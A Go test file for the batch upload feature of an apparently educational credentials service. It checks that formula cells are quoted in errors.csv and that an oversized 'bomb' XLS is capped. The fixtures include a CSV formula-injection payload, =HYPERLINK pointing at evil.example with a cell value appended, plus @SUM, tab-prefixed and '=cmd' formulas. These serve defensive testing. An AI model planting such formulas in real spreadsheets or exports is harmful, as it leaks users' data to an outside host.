package batch_test

import (
	"bytes"
	"context"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/tanu-edu/tanu/batch"
	"github.com/tanu-edu/tanu/credential"
	"github.com/tanu-edu/tanu/internal/bombs"
	"github.com/tanu-edu/tanu/internal/testdb"
	"github.com/tanu-edu/tanu/store"
)

// failedCells returns the stored cells and problem codes of a batch's
// failed rows, by row number.
func failedCells(t *testing.T, st *store.Store, id string) (map[int][]string, map[int][]string) {
	t.Helper()
	cells, codes := map[int][]string{}, map[int][]string{}
	err := st.BatchRows(context.Background(), id, credential.FailedRows, func(r *credential.BatchRow) error {
		cells[r.Row] = r.Cells
		for _, p := range r.Errors {
			codes[r.Row] = append(codes[r.Row], p.Code)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return cells, codes
}

// TestErrorsCSVFormulas: cells that a spreadsheet program would run as
// formulas (=, +, -, @, a leading tab) are written to errors.csv with a
// leading quote, and errors.csv uploaded again as it is reads back the
// cells as first uploaded, with the same problems (issue 10, item 9).
func TestErrorsCSVFormulas(t *testing.T) {
	const upload = "student_id,family_name,given_name,patronymic,date_from,date_to,decision_date,LO1,LO2,LO3\n" +
		"T1,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\",Ли,,2026-02-02,2026-04-24,2026-05-06,86,B+,90\n" +
		"T2,Ким,Ли,+77012345678,2026-02-02,2026-04-24,2026-05-06,-5,B+,90\n" +
		"@SUM(1+1),Ким,Ли,,2026-02-02,2026-04-24,2026-05-06,86,B+,90\n" +
		"T4,Ким,\"\t=1+2\",,2026-02-02,2026-04-24,2026-05-06,86,B+,90\n" +
		"T5,Ким,Ли,,2026-02-02,2026-04-24,2026-05-06,86,B+,-\n"
	for name, open := range testdb.Engines(t) {
		t.Run(name, func(t *testing.T) {
			e := newEnv(t, open)
			s := e.service(batch.Config{Workers: -1})
			first := submit(t, s, e.regno, []byte(upload))
			text, recs := errorsCSV(t, s, e.st, first.ID)
			if len(recs) != 6 {
				t.Fatalf("errors.csv has %d lines:\n%s", len(recs), text)
			}
			for _, want := range []string{`'=HYPERLINK(`, `'+77012345678`, `'-5`, `'@SUM(1+1)`, "'\t=1+2", `'-`} {
				found := false
				for _, r := range recs[1:] {
					for _, c := range r {
						found = found || strings.HasPrefix(c, want)
					}
				}
				if !found {
					t.Errorf("errors.csv has no cell starting with %q:\n%s", want, text)
				}
			}
			for _, r := range recs {
				for _, c := range r {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("errors.csv cell %q starts a formula", c)
					}
				}
			}
			// Uploaded again as it is: the same cells, the same problems.
			again := submit(t, s, e.regno, []byte(text))
			c1, p1 := failedCells(t, e.st, first.ID)
			c2, p2 := failedCells(t, e.st, again.ID)
			if len(c1) != 5 || len(c2) != 5 {
				t.Fatalf("failed rows: %d, then %d", len(c1), len(c2))
			}
			for row, cells := range c1 {
				got := c2[row]
				if len(got) < len(cells) || strings.Join(got[:len(cells)], "\x00") != strings.Join(cells, "\x00") {
					t.Errorf("row %d: re-uploaded cells %q, want %q", row, got, cells)
				}
				if strings.Join(p1[row], ",") != strings.Join(p2[row], ",") {
					t.Errorf("row %d: problems %v, then %v", row, p1[row], p2[row])
				}
			}
		})
	}
}

// TestRejectedCellsCapped uploads a 400 KB XLS whose 3,000 rows show one
// 8,000-character string in every cell (216 MB if stored as read): the
// batch keeps at most credential.MaxBatchCellBytes a cell and credential.MaxBatchBytes
// in all, warns from which row it kept no cells, and errors.csv still lists
// every row, its formula cells quoted. Before the caps such a file stored
// every cell whole.
func TestRejectedCellsCapped(t *testing.T) {
	header := []string{"student_id", "family_name", "given_name", "date_from", "date_to", "decision_date", "LO1", "LO2", "LO3"}
	data := bombs.XLSLongWith(header)
	for name, open := range testdb.Engines(t) {
		t.Run(name, func(t *testing.T) {
			e := newEnv(t, open)
			s := e.service(batch.Config{Workers: -1})
			runtime.GC()
			var m0, m1 runtime.MemStats
			runtime.ReadMemStats(&m0)
			start := time.Now()
			b, err := s.Submit(credential.WithActor(context.Background(), "test"), batch.Upload{Program: e.regno, Filename: "bomb.xls",
				Body: bytes.NewReader(data), Lang: "en"})
			el := time.Since(start)
			runtime.ReadMemStats(&m1)
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("%d bytes: stored in %v, %d MB allocated", len(data), el.Round(time.Millisecond), (m1.TotalAlloc-m0.TotalAlloc)>>20)
			if el > 90*time.Second || m1.TotalAlloc-m0.TotalAlloc > 1<<30 {
				t.Errorf("took %v and %d MB", el, (m1.TotalAlloc-m0.TotalAlloc)>>20)
			}
			cells, _ := failedCells(t, e.st, b.ID)
			total, kept := 0, 0
			for _, cs := range cells {
				if len(cs) > 0 {
					kept++
				}
				for _, c := range cs {
					if len(c) > credential.MaxBatchCellBytes {
						t.Fatalf("a stored cell of %d bytes", len(c))
					}
					total += len(c)
				}
			}
			if len(cells) != bombs.XLSRows || total > credential.MaxBatchBytes || kept == 0 || kept == len(cells) {
				t.Errorf("%d failed rows, %d keep cells, %d bytes stored", len(cells), kept, total)
			}
			var warned bool
			for _, w := range b.Warnings {
				warned = warned || (w.Code == "cells_not_kept" && w.Row == kept+2 && strings.Contains(w.Message, "16 MB"))
			}
			if !warned {
				t.Errorf("warnings %+v, want cells_not_kept at row %d", b.Warnings, kept+2)
			}
			_, recs := errorsCSV(t, s, e.st, b.ID)
			if len(recs) != bombs.XLSRows+1 || !strings.HasPrefix(recs[1][0], "'=cmd") || len(recs[1][0]) > credential.MaxBatchCellBytes+1 {
				t.Errorf("errors.csv: %d lines, first cell %.40q", len(recs), recs[1][0])
			}
		})
	}
}
